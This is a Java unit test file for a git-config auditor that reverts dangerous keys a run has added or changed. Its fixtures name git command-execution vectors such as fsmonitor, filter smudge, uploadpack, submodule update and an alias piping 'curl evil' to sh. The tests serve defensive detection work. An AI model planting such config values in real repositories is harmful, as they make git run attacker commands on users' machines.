package dev.magus.workspace.audit.gitconfig;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import org.junit.jupiter.api.Test;

class ConfigJudgeTest {
    static final String BEFORE = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
            + "\tlogallrefupdates = true\n";

    private static ConfigJudge.Judged judged(Optional<String> before, String after) {
        ConfigJudge.Outcome o = ConfigJudge.judge(before, after, GitConfigKeys.Context.NONE);
        assertThat(o).isInstanceOf(ConfigJudge.Judged.class);
        return (ConfigJudge.Judged) o;
    }

    @Test
    void harmlessChangesAreKeptAsTheRunLeftThem() {
        String after = BEFORE + "[remote \"origin\"]\n\turl = /srv/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
                + "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[user]\n\temail = a@b\n";
        ConfigJudge.Judged j = judged(Optional.of(BEFORE), after);
        assertThat(j.reverts()).isFalse();
        assertThat(j.text()).isEqualTo(after);
        assertThat(j.kept()).extracting(c -> c.key().dotted()).contains("remote.origin.url", "branch.main.merge",
                "user.email");
    }

    @Test
    void aDangerousKeyIsTakenOutAndTheRestStaysByteForByte() {
        String after = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tfsmonitor = touch pwned\n"
                + "\tbare = false\n\tlogallrefupdates = true\n# the user's note\n[user]\n\tname = Me\n";
        ConfigJudge.Judged j = judged(Optional.of(BEFORE), after);
        assertThat(j.reverted()).extracting(KeyChange::said).containsExactly("core.fsmonitor (added, dangerous)");
        assertThat(j.text()).isEqualTo(after.replace("\tfsmonitor = touch pwned\n", ""));
    }

    @Test
    void aChangedDangerousKeyGetsItsEarlierValueBackAndARemovedOneIsPutBack() {
        String before = "[core]\n\tbare = false\n\thooksPath = .githooks\n[alias]\n\tst = status\n";
        String after = "[core]\n\tbare = false\n[alias]\n\tst = !curl evil | sh\n\tco = checkout\n";
        ConfigJudge.Judged j = judged(Optional.of(before), after);
        assertThat(j.reverted()).extracting(KeyChange::said).containsExactlyInAnyOrder(
                "core.hookspath (removed, dangerous)", "alias.st (changed, dangerous)");
        assertThat(j.kept()).extracting(KeyChange::said).containsExactly("alias.co (added, harmless)");
        assertThat(j.text()).isEqualTo("[core]\n\tbare = false\n\thooksPath = .githooks\n[alias]\n\tco = checkout\n"
                + "\tst = status\n");
    }

    @Test
    void aNewSectionOfADangerousKeyGoesHeaderAndAllAndARemovedSectionComesBackUnderItsHeader() {
        String before = "[core]\n\tbare = false\n[credential]\n\thelper = cache\n";
        String after = "[core]\n\tbare = false\n[filter \"x\"]\n\tsmudge = sh -c evil\n";
        ConfigJudge.Judged j = judged(Optional.of(before), after);
        assertThat(j.text()).isEqualTo("[core]\n\tbare = false\n[credential]\n\thelper = cache\n");
    }

    @Test
    void unknownKeysArePutBackToo() {
        ConfigJudge.Judged j = judged(Optional.of(BEFORE), BEFORE + "[frobnicate]\n\tlevel = 3\n");
        assertThat(j.reverted()).extracting(KeyChange::said).containsExactly("frobnicate.level (added, unknown)");
        assertThat(j.text()).isEqualTo(BEFORE);
    }

    @Test
    void aNewRepositoryIsJudgedAgainstNothing() {
        String after = BEFORE + "[remote \"origin\"]\n\turl = /a\n\tuploadpack = sh -c evil\n[include]\n\tpath = /tmp/x\n";
        ConfigJudge.Judged j = judged(Optional.empty(), after);
        assertThat(j.reverted()).extracting(c -> c.key().dotted()).containsExactlyInAnyOrder(
                "remote.origin.uploadpack", "include.path");
        assertThat(j.text()).isEqualTo(BEFORE + "[remote \"origin\"]\n\turl = /a\n");
    }

    @Test
    void anInlineKeyIsCutFromItsHeaderLine() {
        ConfigJudge.Judged j = judged(Optional.of("[core]\n"), "[core] editor = vim\n\tbare = true\n");
        assertThat(j.text()).isEqualTo("[core] \n\tbare = true\n");
    }

    @Test
    void anEmptiedHeaderGoesOnlyWhenTheEarlierFileHadNoSuchSection() {
        // A key on the header's line, a CRLF header, a comment on the header's line.
        assertThat(judged(Optional.of(BEFORE), BEFORE + "[include] path = x\n[user]\n\tname = Me\n").text())
                .isEqualTo(BEFORE + "[user]\n\tname = Me\n");
        assertThat(judged(Optional.of(BEFORE), BEFORE + "[Include]\r\n  path=x\r\n").text()).isEqualTo(BEFORE);
        assertThat(judged(Optional.of(BEFORE), BEFORE + "[include] # mine\n\tpath = x\n[include]\n\tpath = y\n").text())
                .isEqualTo(BEFORE);
        // The earlier file had the section: its header stays, empty as it was.
        assertThat(judged(Optional.of(BEFORE + "[include]\n"), BEFORE + "[include]\n\tpath = x\n").text())
                .isEqualTo(BEFORE + "[include]\n");
        // A kept key holds the section.
        assertThat(judged(Optional.of(BEFORE), BEFORE + "[remote \"o\"]\n\turl = /a\n\tuploadpack = evil\n").text())
                .isEqualTo(BEFORE + "[remote \"o\"]\n\turl = /a\n");
    }

    @Test
    void aSubmoduleUpdateCommandIsDangerousAndOtherUpdatesAreNot() {
        String after = "[submodule \"a\"]\n\turl = ../a\n\tactive = true\n\tupdate = rebase\n[submodule \"b\"]\n"
                + "\tupdate = !sh evil\n";
        ConfigJudge.Judged j = judged(Optional.empty(), after);
        assertThat(j.reverted()).extracting(c -> c.key().dotted()).containsExactly("submodule.b.update");
    }

    @Test
    void coreWorktreeIsKeptOnlyWhenItLeadsInside() {
        String after = "[core]\n\tworktree = ../../../vendor/lib\n";
        assertThat(((ConfigJudge.Judged) ConfigJudge.judge(Optional.empty(), after,
                new GitConfigKeys.Context(v -> v.startsWith("../")))).reverts()).isFalse();
        assertThat(((ConfigJudge.Judged) ConfigJudge.judge(Optional.empty(), after, GitConfigKeys.Context.NONE))
                .reverts()).isTrue();
    }

    @Test
    void aMalformedRunFileIsUnreadable() {
        assertThat(ConfigJudge.judge(Optional.of(BEFORE), "[core\n", GitConfigKeys.Context.NONE))
                .isInstanceOf(ConfigJudge.Unreadable.class);
    }
}
